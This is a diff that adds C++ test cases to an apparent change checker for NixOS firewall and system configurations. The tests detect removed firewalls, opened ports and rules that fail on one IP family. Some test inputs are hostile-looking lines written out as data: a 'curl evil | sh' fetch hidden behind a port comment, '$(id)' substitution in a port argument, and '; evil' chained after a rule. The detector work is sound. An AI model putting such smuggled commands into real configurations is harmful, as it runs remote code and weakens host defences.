@@ -71,6 +71,24 @@ TEST_CASE("a firewall that runs /bin/true is a firewall removed") {
     CHECK(the(pair.compare(before, after), "firewall_removed").risk == Risk::critical);
 }
 
+TEST_CASE(
+    "a firewall that filters when it is reloaded and not when it starts is a firewall removed") {
+    Pair pair;
+    const auto rules = [&](const std::string& more) {
+        auto unit = pair.firewall_unit(std::string(ssh_rule) + more);
+        return unit.replace(unit.find("ExecStart="), 10, "ExecReload=");
+    };
+    auto before = guarded(pair, ssh_rule);
+    auto after = before;
+    after.units["firewall.service"] = rules("") + "ExecStart=/bin/true\n";
+    CHECK(the(pair.compare(before, after), "firewall_removed").risk == Risk::critical);
+    // What a reload opens is opened.
+    auto& unit = after.units["firewall.service"];
+    unit = rules("ip46tables -A nixos-fw -p tcp --dport 8080 -j nixos-fw-accept\n");
+    unit += before.units["firewall.service"].substr(unit.find("ExecReload="));
+    CHECK(the(pair.compare(before, after), "port_opened").subject == "8080/tcp");
+}
+
 TEST_CASE("a firewall unit that is gone, masked or never started is a firewall removed") {
     Pair pair;
     const auto before = guarded(pair, ssh_rule);
@@ -87,7 +105,7 @@ TEST_CASE("a firewall unit that is gone, masked or never started is a firewall r
 }
 
 TEST_CASE("a firewall line that is no plain port is a changed firewall and a root command") {
-    for (const auto* line : {"ip46tables -A nixos-fw -j nixos-fw-accept\n",
+    for (const auto* line : {"ip46tables -A nixos-fw -j MINE\n",
                              "ip46tables -A nixos-fw -p tcp --dport $(id) -j nixos-fw-accept\n",
                              "curl evil | sh # -p tcp --dport 80\n",
                              "ip46tables -A nixos-fw -p tcp --dport 80 -j nixos-fw-accept ; evil\n",
@@ -164,7 +182,7 @@ TEST_CASE("a rule of nftables that stands elsewhere opens nothing, and moves are
 TEST_CASE("a rule of nftables with more in it than a port is a changed firewall") {
     for (const auto* line :
          {"tcp dport { 23 } accept ; drop\n", "meta mark 1 tcp dport 23 accept\n",
-          "tcp dport { 23 } accept comment \"x\" tcp dport 24 accept \"\n", "accept\n",
+          "tcp dport { 23 } accept comment \"x\" tcp dport 24 accept \"\n",
           "tcp dport $ports accept\n", "include \"/tmp/x\"\n"}) {
         CAPTURE(line);
         Pair pair;
@@ -244,4 +262,77 @@ TEST_CASE("other name servers and fixed names are told") {
     const auto found = pair.compare(before, after);
     CHECK(the(found, "dns_changed").risk == Risk::high);
     CHECK(the(found, "hosts_changed").risk == Risk::critical);
+}
+
+TEST_CASE("a rule that one of the two tables refuses is no open port: the firewall may not start") {
+    Pair pair;
+    const auto said = [&](const std::string& rule) {
+        return pair.compare(guarded(pair, ssh_rule), guarded(pair, std::string(ssh_rule) + rule));
+    };
+    for (const auto* rule :
+         {"ip46tables -A nixos-fw -s 192.0.2.0/24 -p tcp --dport 80 -j nixos-fw-accept\n",
+          "ip46tables -A nixos-fw -d 2001:db8::/32 -p tcp --dport 80 -j nixos-fw-accept\n",
+          "iptables -A nixos-fw -s fd00::1 -p tcp --dport 80 -j nixos-fw-accept\n",
+          "ip6tables -A nixos-fw -p tcp --source 192.0.2.1 --dport 80 -j nixos-fw-accept\n"}) {
+        const auto found = said(rule);
+        CHECK_FALSE(has(found, "port_opened"));
+        CHECK(the(found, "firewall_changed").risk == Risk::critical);
+        CHECK(
+            the(found, "firewall_changed").sentence.starts_with("the firewall may fail to start"));
+    }
+    for (const auto* rule :
+         {"iptables -A nixos-fw -s 192.0.2.0/24 -p tcp --dport 80 -j nixos-fw-accept\n",
+          "ip6tables -A nixos-fw -d 2001:db8::/32 -p tcp --dport 80 -j nixos-fw-accept\n"})
+        CHECK(the(said(rule), "port_opened").subject.starts_with("80/tcp"));
+}
+
+TEST_CASE(
+    "a rule of no family is one in every spelling, and only where its failure ends the start") {
+    Pair pair;
+    const auto before = guarded(pair, ssh_rule);
+    for (const std::string rule :
+         {"ip46tables -A nixos-fw --src 192.0.2.1 -j DROP",
+          "ip46tables -A nixos-fw -s10.0.0.1 -j DROP",
+          "ip46tables -A nixos-fw --source=192.0.2.1 -j DROP",
+          "iptables -w -I INPUT --dst fd00::1 -j DROP; true",
+          "ip6tables -A nixos-fw -d192.0.2.1 -j DROP # why",
+          "ip46tables -A nixos-fw -m iprange --src-range 192.0.2.1-192.0.2.9 -j DROP",
+          "ip46tables -A nixos-fw -s 192.0.2.1 -m comment --comment \"a || b\" -j DROP"}) {
+        CAPTURE(rule);
+        const auto found = pair.compare(before, guarded(pair, ssh_rule + rule + "\n"));
+        CHECK(the(found, "firewall_changed").risk == Risk::critical);
+    }
+    for (const std::string rule :
+         {"ip46tables -D nixos-fw -s 10.0.0.0/8 -j DROP || true",
+          "ip46tables -D nixos-fw -s 10.0.0.0/8 -j DROP 2>/dev/null | cat",
+          "ip46tables -A nixos-fw -m comment --comment \"x -s 10.0.0.1 y\" -j DROP",
+          "ip46tables -A nixos-fw -s 10.0.0.0/8 -j DROP \\\n|| true", "echo ip46tables -s 10.0.0.1",
+          "ip46tables -A nixos-fw --set-mark 10.0.0.1 -j DROP"}) {
+        CAPTURE(rule);
+        const auto found = pair.compare(before, guarded(pair, ssh_rule + rule + "\n"));
+        CHECK(the(found, "firewall_changed").risk == Risk::high);
+    }
+    auto stops = before;
+    stops.units["firewall.service"] +=
+        "ExecStop=" +
+        pair.store.file("firewall-stop",
+                        "#!/bin/sh\nip46tables -D nixos-fw -s 10.0.0.0/8 -j DROP\n", true) +
+        "\n";
+    CHECK(the(pair.compare(before, stops), "firewall_changed").risk == Risk::high);
+}
+
+TEST_CASE("a firewall of very many rules is read as far as its limit, and the rest is compared") {
+    Pair pair;
+    std::string rules = ssh_rule;
+    for (int n = 1; n <= 8'300; ++n)
+        rules += "ip46tables -A nixos-fw -p tcp --dport " + std::to_string(n + 1'000) +
+                 " -j nixos-fw-accept\n";
+    const auto before = guarded(pair, rules);
+    const auto after =
+        guarded(pair, rules + "ip46tables -A nixos-fw -p tcp --dport 65000 -j nixos-fw-accept\n");
+    const auto found = pair.compare(before, after);
+    CHECK_FALSE(has(found, "port_opened"));
+    CHECK(the(found, "firewall_changed").risk == Risk::high);
+    CHECK(the(found, "firewall_changed").after.value_or("").find("65000") != std::string::npos);
+    CHECK(has(found, "unit_root_exec"));
 }
